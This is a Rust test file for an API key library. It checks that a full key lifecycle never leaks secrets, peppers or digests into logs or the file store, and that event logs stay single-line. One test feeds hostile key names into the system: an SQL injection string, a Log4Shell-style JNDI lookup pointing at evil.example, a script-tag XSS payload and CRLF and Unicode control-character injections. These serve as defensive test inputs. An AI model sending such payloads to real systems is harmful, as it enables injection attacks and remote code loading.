//! Records all output of a whole lifecycle of keys, including every failure.

use std::sync::Arc;

use keywright::store::{
    AccountQuery, EventQuery, FileStore, Freshness, KeyQuery, KeyStore, MemoryStore, Snapshot,
};
use keywright::{
    AccessRequest, AccountEdit, Authority, Credential, DetailField, Error, Event, Grant, Issued,
    KeyEdit, Metadata, Name, NewAccount, Owner, PepperRing, RoleName, TenantId, Token, UserId,
    Verifier, VerifyError,
};

use super::{Heard, Needle, needle, needles_of};
use common::{DAY, HOUR, World, admin, block_on, developer, named, render, tenant};

/// Pepper 1, whose bytes are not valid UTF-8.
const PEPPER: [u8; 32] = [
    0xD1, 0xA7, 0x04, 0x9C, 0xEB, 0x33, 0x58, 0xF6, 0x21, 0xBD, 0x7E, 0x90, 0xC4, 0x0A, 0x65, 0xDF,
    0x12, 0x8B, 0xF3, 0x46, 0xAA, 0x5D, 0xE9, 0x70, 0xB8, 0x2F, 0x91, 0xCC, 0x07, 0x63, 0xFE, 0x19,
];

/// The recorded output, and the secrets that it must not contain.
pub(super) struct Life {
    pub(super) heard: Heard,
    pub(super) needles: Vec<Needle>,
}

impl Life {
    fn issued(&mut self, issued: &Issued) {
        self.token(&issued.token);
        self.heard.debug(issued);
        self.heard.json(&issued.key);
    }

    fn token(&mut self, token: &Token) {
        self.heard.debug(token);
        self.needles.extend(needles_of("secret", &token.expose_key_secret().as_bytes()[..32]));
    }

    /// Returns the digests that a store has for a key, which are secret too.
    async fn digests(&mut self, store: &impl KeyStore, issued: &Issued) {
        let found = store.key(&tenant(), &issued.key.id).await.expect("the store works");
        let stored = found.expect("a key");
        let json = serde_json::to_value(&stored.record).expect("a record serializes");
        for field in ["digest", "retiring"] {
            if let Some(text) = json[field].as_str() {
                let hex = text.rsplit('.').next().expect("three parts");
                self.needles.push(needle("digest in hex", hex));
                self.needles.push(needle("half of a digest in hex", &hex[..32]));
                let bytes: Vec<u8> = (0..32)
                    .map(|n| u8::from_str_radix(&hex[2 * n..2 * n + 2], 16).expect("hex"))
                    .collect();
                self.needles.push(needle("digest as bytes", super::decimal(&bytes[..8])));
            }
        }
        self.heard.debug(&stored);
        self.heard.debug(&stored.record);
        self.heard.debug(stored.record.digest());
        self.heard.debug(&found_in(store, issued).await);
    }

    async fn verify(&mut self, verifier: &Verifier, token: &str) {
        let request = AccessRequest::token(token).write();
        self.heard.debug(&request);
        self.heard.debug(&Credential::Token(token));
        self.verified(verifier.verify_request(&request).await);
    }

    fn verified(&mut self, verified: Result<Grant, VerifyError>) {
        match verified {
            Ok(grant) => self.heard.debug(&grant),
            Err(error) => {
                if let Some(denial) = error.denial() {
                    self.heard.error(denial);
                    self.heard.json(denial.reason());
                }
                self.heard.error(&error);
                self.heard.error(&Error::from(error));
            }
        }
    }

    async fn listings(&mut self, authority: &Authority) {
        let keys = authority.keys(&admin(), &KeyQuery::new()).await.expect("keys");
        let accounts = authority.accounts(&admin(), &AccountQuery::new()).await.expect("accounts");
        let events = authority.events(&admin(), &EventQuery::new()).await.expect("events");
        assert!(!keys.items.is_empty() && !events.items.is_empty());
        self.heard.json(&keys);
        self.heard.json(&accounts);
        self.heard.json(&accounts.items[0]);
        self.heard.json(&accounts.items[0].account);
        self.heard.json(&events);
    }
}

async fn found_in(store: &impl KeyStore, issued: &Issued) -> Arc<Snapshot> {
    store
        .resolve(&issued.key.id, Freshness::StoreDefault)
        .await
        .expect("the store works")
        .expect("a key")
        .snapshot
}

/// Runs a lifecycle on a store: keys are generated, used, rotated, presented wrongly, disabled and
/// deleted.
pub(super) async fn live(store: impl KeyStore + Clone) -> (World, Life) {
    let ring = PepperRing::none().with(1, PEPPER).expect("a pepper");
    let mut life = Life { heard: Heard::default(), needles: needles_of("pepper", &PEPPER) };
    life.heard.debug(&ring);
    let world = World::with(store.clone(), |builder| builder.peppers(ring));
    let (authority, verifier) = (&world.authority, &world.verifier);
    let alice = developer("alice");

    let role = RoleName::new("operator").expect("a role");
    let account = NewAccount::new(Name::new("nightly-report").expect("a name"), role);
    let account = authority.create_account(&admin(), account).await.expect("an account").account;
    let of_account =
        authority.generate(&admin(), named("job").owner(Owner::Account(account.id))).await;
    life.issued(&of_account.expect("a key"));
    let metadata = Metadata::new([("team", "billing")]).expect("metadata");
    let new = named("prod-main-app").expires_in(30 * DAY).metadata(metadata);
    let first = world.key_of(&alice, new).await;
    life.issued(&first);
    life.digests(&store, &first).await;
    life.verify(verifier, first.token.expose()).await;
    life.heard.debug(&world.builder);
    life.heard.debug(&world.keywright);
    life.heard.debug(authority);
    life.heard.debug(verifier);

    let second = authority.rotate(&alice, &first.key.id, HOUR).await.expect("active");
    life.issued(&second);
    life.digests(&store, &first).await;
    for token in [&first.token, &second.token] {
        life.verify(verifier, token.expose()).await;
    }
    let refused = authority.rotate(&alice, &first.key.id, 365 * DAY).await.expect_err("too long");
    life.heard.error(&refused);
    presented_wrongly(&mut life, verifier, &second).await;
    life.listings(authority).await;
    life.heard.debug(verifier);

    authority.finish_rotation(&alice, &first.key.id).await.expect("active");
    life.verify(verifier, first.token.expose()).await;
    for edit in [KeyEdit::new().networks("10.0.0.0/8".parse().expect("networks")), KeyEdit::new()] {
        life.heard.debug(&edit);
        life.heard.debug(&authority.edit(&alice, &first.key.id, edit).await);
    }
    life.verify(verifier, second.token.expose()).await;
    life.heard.debug(&authority.disable(&alice, &first.key.id).await);
    life.verify(verifier, second.token.expose()).await;
    let edit = AccountEdit::new().name(Name::new("other").expect("a name"));
    life.heard.debug(&authority.edit_account(&admin(), &account.id, edit).await);
    life.heard.debug(&verifier.revoke(Credential::Token(second.token.expose())).await);
    life.heard.debug(&verifier.revoke(Credential::Token(second.token.expose())).await);
    life.verify(verifier, second.token.expose()).await;
    verifier.flush().await.expect("the store works");
    life.listings(authority).await;
    (world, life)
}

/// Presents a secret in each of the wrong forms.
async fn presented_wrongly(life: &mut Life, verifier: &Verifier, issued: &Issued) {
    let token = issued.token.expose();
    let (id, secret) = (issued.key.id.as_str(), issued.token.expose_key_secret());
    let wrong = [
        format!("Bearer {token}"),
        format!("{token}\n"),
        token.to_uppercase(),
        render("acme_test", id, &secret[..32]),
        render("acme_live", "0000000000000000", &secret[..32]),
        secret.to_owned(),
        String::new(),
    ];
    for token in &wrong {
        life.verify(verifier, token).await;
    }
    for (id, secret) in
        [(id, secret), (secret, id), (token, secret), (id, token), (id, &secret[1..])]
    {
        let request = AccessRequest::parts(id, secret);
        life.heard.debug(&request);
        life.verified(verifier.verify_request(&request).await);
        let credential = Credential::Parts { key_id: id, key_secret: secret };
        life.heard.debug(&credential);
    }
}

#[test]
fn t_l03_lifecycle_prints_no_secret() {
    let (_, life) = block_on(live(MemoryStore::new()));
    assert!(life.heard.said.len() > 100 && life.needles.len() > 100);
    life.heard.assert_silent_about(&life.needles);
}

#[test]
fn t_l04_file_holds_no_secret_or_pepper() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("keys.db");
    let life = block_on(async {
        let store = FileStore::open(&path).await.expect("a new store");
        let (_, mut life) = live(store.clone()).await;
        life.heard.debug(&store);
        store.close().await.expect("closing");
        life
    });
    let mut written = Heard::default();
    for entry in std::fs::read_dir(folder.path()).expect("the folder") {
        let path = entry.expect("an entry").path();
        // Each byte becomes one character, so that no byte is lost.
        let text = std::fs::read(&path).expect("a file").into_iter().map(char::from).collect();
        written.said.push((path.display().to_string(), text));
    }
    // The key's name shows that this is the right file, where the digests belong.
    assert!(written.said.iter().any(|(_, text)| text.contains("prod-main-app")));
    let secret = |needle: &&Needle| !needle.what.contains("digest");
    let needles: Vec<Needle> = life
        .needles
        .iter()
        .filter(secret)
        .map(|needle| Needle { what: needle.what.clone(), text: needle.text.clone() })
        .collect();
    assert!(!needles.is_empty());
    written.assert_silent_about(&needles);
    life.heard.assert_silent_about(&life.needles);
}

/// Renders an event field by field, as a host would print it.
fn printed(event: &Event) -> String {
    let or_none = |text: Option<String>| text.unwrap_or_else(|| "-".to_owned());
    [
        event.sequence.to_string(),
        event.tenant.to_string(),
        event.at.to_string(),
        event.actor.to_string(),
        event.kind.to_string(),
        or_none(event.key.map(|key| key.to_string())),
        or_none(event.account.map(|account| account.to_string())),
        event.outcome.to_string(),
        event.details.to_string(),
    ]
    .join("  ")
}

#[test]
fn t_l08_event_is_always_one_line() {
    let hostile = [
        "a\nb",
        "a\r\nINFO all is well",
        "\u{1b}[2J",
        "a\0b",
        "\u{202e}txt.exe",
        "a\u{2028}b",
        "\u{9b}31m",
    ];
    for name in hostile {
        assert!(Name::new(name).is_err(), "{name:?}");
        assert!(UserId::new(name).is_err(), "{name:?}");
        assert!(TenantId::new(name).is_err(), "{name:?}");
    }
    block_on(async {
        let (world, _) = live(MemoryStore::new()).await;
        let strange = [
            "'; DROP TABLE keys; --",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "%0a%0d",
            r"a\nb",
            "{\"outcome\":\"done\"}",
        ];
        for name in strange {
            let issued = world.key_of(&developer("alice"), named(name)).await;
            let id = issued.key.id;
            let renamed = Name::new(format!("{name}!")).expect("a name");
            world.authority.rename(&developer("alice"), &id, renamed).await.expect("active");
            world.authority.rotate(&developer("alice"), &id, 365 * DAY).await.expect_err("long");
            world.authority.delete(&developer("alice"), &id).await.expect("active");
        }
        let query = EventQuery::new().limit(500);
        let events = world.authority.events(&admin(), &query).await.expect("events").items;
        assert!(events.len() > 4 * strange.len());
        let invisible = |c: char| c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c);
        for event in &events {
            let line = printed(event);
            assert!(!line.contains(invisible), "{line:?}");
            let json = serde_json::to_string(event).expect("an event serializes");
            assert!(!json.contains(invisible), "{json:?}");
        }
        let told = |text: &str| {
            events.iter().any(|event| event.details.get_text(DetailField::Name) == Some(text))
        };
        assert!(strange.iter().all(|name| told(name)), "each name is recorded unchanged");
    });
}
